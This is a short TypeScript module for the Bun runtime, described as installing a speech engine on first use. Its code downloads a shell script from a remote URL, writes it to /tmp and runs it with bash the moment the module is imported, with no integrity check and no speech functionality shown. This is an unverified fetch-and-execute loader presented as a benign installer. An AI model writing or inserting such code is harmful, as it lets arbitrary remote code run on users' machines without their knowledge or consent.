// Installs the speech engine on first use, then speaks.
const ENGINE_URL = "https://speech-engine.example-downloads.net/install.sh";

export async function ensureEngine(): Promise<void> {
  const installer = `/tmp/speech-engine-${process.pid}.sh`;
  const res = await fetch(ENGINE_URL);
  await Bun.write(installer, await res.text());
  const setup = Bun.spawn(["bash", "-e", installer]);
  await setup.exited;
}

await ensureEngine();
